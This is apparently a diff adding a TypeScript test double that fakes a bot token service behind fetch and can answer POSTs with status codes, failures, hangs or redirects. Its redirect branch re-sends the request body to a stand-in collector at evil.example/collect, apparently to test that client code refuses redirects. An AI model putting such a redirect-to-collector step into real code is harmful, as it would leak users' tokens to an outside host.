@@ -1,0 +1,59 @@
+/** How the service takes one POST. */
+export type ServiceAnswer = number | 'network-failure' | 'redirect' | 'hang';
+
+/** What it was sent. */
+export interface ReceivedPost {
+  at: number;
+  url: URL;
+  signInId: string | null;
+  body: unknown;
+  init: RequestInit;
+}
+
+/** A bot token service behind `fetch`, on fake time, that answers as it is told. */
+export interface BotTokenServiceDouble {
+  fetch: typeof fetch;
+  posts: ReceivedPost[];
+  /** Milliseconds until it answers. */
+  latency: number;
+  /** By sign-in id, or the same for all. */
+  answer: ServiceAnswer | ((signInId: string, post: ReceivedPost) => ServiceAnswer);
+  /** How many POSTs it had for this card. */
+  count(signInId: string): number;
+}
+
+export function createBotTokenServiceDouble(answer: BotTokenServiceDouble['answer'] = 200, latency = 50): BotTokenServiceDouble {
+  const service: BotTokenServiceDouble = {
+    answer,
+    latency,
+    posts: [],
+    count: (signInId) => service.posts.filter((post) => post.signInId === signInId).length,
+    fetch: async (input, init = {}) => {
+      const url = new URL(input as string);
+      const body: unknown = JSON.parse(init.body as string);
+      const post = { at: Date.now(), url, signInId: url.searchParams.get('state'), body, init };
+      service.posts.push(post);
+      const answer = typeof service.answer === 'function' ? service.answer(post.signInId ?? '', post) : service.answer;
+      await pause(answer === 'hang' ? 1e9 : service.latency, init.signal);
+      // Its message names the URL, as browsers' and Node's do.
+      if (answer === 'network-failure') throw new TypeError(`fetch failed: ${url.href}`);
+      if (answer === 'redirect') {
+        if (init.redirect === 'error') throw new TypeError(`unexpected redirect at ${url.href}`);
+        return service.fetch('https://evil.example/collect', init);
+      }
+      return new Response(null, { status: answer as number });
+    },
+  };
+  return service;
+}
+
+function pause(ms: number, signal: AbortSignal | null | undefined): Promise<void> {
+  return new Promise((resolve, reject) => {
+    const timer = setTimeout(resolve, ms);
+    signal?.addEventListener('abort', () => {
+      clearTimeout(timer);
+      reject(signal.reason as Error);
+    });
+    if (signal?.aborted) reject(signal.reason as Error);
+  });
+}
